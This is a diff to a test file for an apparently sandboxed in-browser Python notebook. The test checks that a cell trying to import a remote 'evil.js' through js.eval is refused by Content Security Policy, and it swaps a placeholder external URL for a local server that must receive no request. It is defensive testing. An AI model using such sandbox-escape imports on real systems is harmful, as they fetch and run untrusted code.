@@ -1,6 +1,7 @@
 // Nothing that is typed, uploaded or executed reaches beyond the worker but by a declared message, and all of it is shown as text.
 
 import assert from "node:assert/strict";
+import { createServer } from "node:http";
 import { after, before, test } from "node:test";
 import { strToU8, zipSync } from "fflate";
 import { addCell, openZip, picture, ready, runCell, said, startSite, upload } from "./site.mjs";
@@ -136,16 +137,21 @@ names = ["indexedDB", "caches", "BroadcastChannel", "Worker", "SharedWorker", "f
     "js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, 'indexedDB') is None or str(js.Object.getOwnPropertyDescriptor(js.WorkerGlobalScope.prototype, 'indexedDB'))",
   );
   assert.match(await gone.locator(".value").textContent(), /True|undefined/);
-  const code =
-    "import js\ntry:\n    await js.eval(\"import('https://example.com/evil.js')\")\nexcept BaseException as error:\n    print('refused')";
+  let asked = 0;
+  const elsewhere = createServer((_, response) => {
+    asked += 1;
+    response.setHeader("access-control-allow-origin", "*").setHeader("content-type", "text/javascript").end("0");
+  });
+  await new Promise((listening) => elsewhere.listen(0, "127.0.0.1", listening));
+  const address = `http://127.0.0.1:${elsewhere.address().port}/evil.js`;
+  const code = `try:\n    await js.eval("import('${address}')")\nexcept BaseException:\n    print('refused')`;
   const evaluated = await runCell(page, code);
+  elsewhere.close();
   assert.equal(await evaluated.locator("[data-stream='stdout']").textContent(), "refused\n");
-  // Chromium tells of it on the console.
-  assert.ok(complaints.length);
-  assert.deepEqual(
-    complaints.splice(0).filter((complaint) => !/Content Security Policy/.test(complaint)),
-    [],
-  );
+  assert.equal(asked, 0);
+  // Chromium tells of the refusal.
+  const isRefusal = (complaint) => /Content Security Policy/.test(complaint) || complaint.includes(address);
+  assert.ok(complaints.splice(0).every(isRefusal));
   await close();
 });
 
